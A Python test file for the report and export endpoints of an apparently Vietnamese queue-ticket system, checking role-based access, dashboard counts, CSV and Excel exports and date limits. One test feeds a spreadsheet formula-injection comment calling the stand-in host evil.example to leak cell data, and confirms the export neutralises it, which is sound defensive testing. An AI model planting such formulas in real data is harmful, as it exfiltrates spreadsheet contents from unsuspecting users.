"""The report endpoints (the hall in this process): who may read them, and what they answer."""
from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from tests.support.app import InProcessHall
from tests.support.hall import hall_config

READS = ["stats", "dashboard", "reports/tickets.csv", "reports/tickets.xlsx", "reports/summary.xlsx", "printers"]


@pytest.fixture(scope="module")
def hall(tmp_path_factory):
    with InProcessHall(tmp_path_factory.mktemp("reports-api"), hall_config()) as server:
        yield server, server.auth.make(admin=["root"], staff=["lan"], supervisor=["boss"], kiosk=["k1"])


@pytest.mark.parametrize("path", READS)
def test_staff_may_not_read_reports(hall, path):
    server, made = hall
    resp = server.get(path, token=made["staff"]["lan"])
    assert resp.status_code == 403, resp.text[:200]
    assert resp.json()["error"]["code"] == "forbidden"
    resp = server.get(path)
    assert resp.status_code == 401 and resp.json()["error"]["code"] == "unauthenticated"
    for person in (made["supervisor"]["boss"], made["admin"]["root"]):
        assert server.get(path, token=person).status_code == 200


def test_dashboard_and_exports_follow_the_hall(hall):
    server, made = hall
    boss, lan, kiosk = made["supervisor"]["boss"], made["staff"]["lan"], made["kiosk"]["k1"]
    before = server.get("dashboard", token=boss).json()
    dd = next(s for s in before["services"] if s["code"] == "DD")
    issued = server.post("tickets", {"service": "DD"}, token=kiosk).json()["ticket"]
    after = server.get("dashboard", token=boss).json()
    assert after["seq"] > before["seq"]
    dd_after = next(s for s in after["services"] if s["code"] == "DD")
    assert dd_after["waiting"] == dd["waiting"] + 1 and dd_after["tickets"] == dd["tickets"] + 1
    assert dd_after["longest_wait_s"] is not None and dd_after["target_wait_s"] == 1800
    called = server.post("counters/1/call-next", token=lan).json()["ticket"]
    counter = next(c for c in server.get("dashboard", token=boss).json()["counters"] if c["number"] == 1)
    assert counter["current"]["number"] == called["number"] and counter["staff"] == "lan"
    server.post("counters/1/finish", token=lan)

    day = after["day"]
    resp = server.get(f"reports/tickets.csv?from={day}&to={day}", token=boss)
    assert resp.headers["Content-Type"].startswith("text/csv")
    assert "attachment" in resp.headers["Content-Disposition"]
    assert resp.content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(resp.content.decode("utf-8-sig"))))
    mine = next(r for r in rows if r["Số thứ tự"] == issued["number"])
    assert mine["Tên lĩnh vực"] == "Đất đai" and mine["Kết quả"] in ("Đã phục vụ", "Đang chờ", "Đã gọi")

    resp = server.get(f"reports/tickets.xlsx?from={day}&to={day}", token=boss)
    assert resp.headers["Content-Type"].startswith("application/vnd.openxmlformats")
    ws = load_workbook(io.BytesIO(resp.content))["Số thứ tự"]
    assert ws.max_row == len(rows) + 1

    stats = server.get(f"stats?from={day}&to={day}", token=boss).json()
    assert {"from", "to", "total", "services", "counters", "staff", "by_hour", "by_day"} <= set(stats)
    assert stats["total"]["tickets"] == len(rows)
    assert stats["live_days"] == [day]


@pytest.mark.parametrize("query", ["from=2026-13-01", "from=2026-11-10&to=2026-11-01", "from=2024-01-01&to=2026-01-01"])
def test_bad_ranges_are_refused(hall, query):
    server, made = hall
    resp = server.get(f"stats?{query}", token=made["supervisor"]["boss"])
    assert resp.status_code == 422 and resp.json()["error"]["code"] == "invalid_value"


def test_the_pages_are_served(hall):
    server, _ = hall
    for path, marker in (("/admin", "dashboard.js"), ("/admin/reports", "chart.umd.min.js")):
        resp = server.get(path)
        assert resp.status_code == 200 and marker in resp.text
        assert 'href="/admin/reports"' in resp.text and 'href="/admin/people"' in resp.text
        assert resp.headers["X-Frame-Options"] == "DENY"
    assert server.get("/static/vendor/chart.js/chart.umd.min.js").status_code == 200


def test_long_exports(hall):
    """The CSV streams a month at a time (one header, every row); the ticket workbook stops at a quarter."""
    from datetime import date, timedelta

    server, made = hall
    boss = made["supervisor"]["boss"]
    day = date.fromisoformat(server.get("dashboard", token=boss).json()["day"])
    server.post("tickets", {"service": "HT"}, token=made["kiosk"]["k1"])
    start = day - timedelta(days=399)
    resp = server.get(f"reports/tickets.csv?from={start}&to={day}", token=boss)
    assert resp.status_code == 200
    text = resp.content.decode("utf-8")
    assert text.count("\ufeff") == 1 and text.count("Số thứ tự") == 1
    rows = list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))
    one_day = server.get(f"reports/tickets.csv?from={day}&to={day}", token=boss).content.decode("utf-8-sig")
    assert len(rows) == len(list(csv.DictReader(io.StringIO(one_day)))) > 0
    assert server.get(f"reports/tickets.csv?from={start - timedelta(days=1)}&to={day}", token=boss).status_code == 422
    quarter = day - timedelta(days=91)
    assert server.get(f"reports/tickets.xlsx?from={quarter}&to={day}", token=boss).status_code == 200
    resp = server.get(f"reports/tickets.xlsx?from={quarter - timedelta(days=1)}&to={day}", token=boss)
    assert resp.status_code == 422 and resp.json()["error"]["code"] == "invalid_value"


def test_the_csv_a_supervisor_downloads_is_safe_and_readable(hall):
    """Through the real API: a low rating whose comment is a formula, read back from the CSV."""
    server, made = hall
    boss, lan, kiosk = made["supervisor"]["boss"], made["staff"]["lan"], made["kiosk"]["k1"]
    tablet = server.auth.rating("r-export")
    comment = '=HYPERLINK("http://evil.example/?leak="&A1,"Xem kết quả")'
    ticket = server.post("tickets", {"service": "DKKD"}, token=kiosk).json()["ticket"]
    assert server.post("counters/5/call", {"number": ticket["number"]}, token=lan).status_code == 200
    assert server.post("counters/5/finish", token=lan).status_code == 200
    resp = server.post("counters/5/rating", {"score": 1, "reason": "long_wait", "comment": comment}, token=tablet)
    assert resp.status_code == 201, resp.text
    day = server.get("dashboard", token=boss).json()["day"]

    text = server.get(f"reports/tickets.csv?from={day}&to={day}", token=boss).content.decode("utf-8-sig")
    row = next(r for r in csv.DictReader(io.StringIO(text)) if r["Số thứ tự"] == ticket["number"])
    assert row["Góp ý"] == "'" + comment
    assert (row["Trạng thái"], row["Lý do"], row["Đánh giá"]) == ("Đã xong", "Chờ quá lâu", "1")
    assert (row["Mã trạng thái"], row["Mã lý do"]) == ("done", "long_wait")

    text = server.get(f"reports/tickets.csv?from={day}&to={day}&lang=en", token=boss).content.decode("utf-8-sig")
    row = next(r for r in csv.DictReader(io.StringIO(text)) if r["Number"] == ticket["number"])
    assert (row["Status"], row["Reason"], row["Comment"]) == ("Done", "Waited too long", "'" + comment)

    ws = load_workbook(io.BytesIO(server.get(f"reports/tickets.xlsx?from={day}&to={day}", token=boss).content)).active
    header = [c.value for c in ws[1]]
    cell = next(r for r in ws.iter_rows(min_row=2) if r[1].value == ticket["number"])[header.index("Góp ý")]
    assert (cell.value, cell.data_type) == (comment, "s")  # a text cell, not a formula
    wb = load_workbook(io.BytesIO(server.get(f"reports/summary.xlsx?from={day}&to={day}&lang=en", token=boss).content))
    assert wb.sheetnames[0] == "Summary"
    resp = server.get(f"reports/tickets.csv?from={day}&to={day}&lang=fr", token=boss)
    assert resp.status_code == 422 and resp.json()["error"]["code"] == "invalid_value"
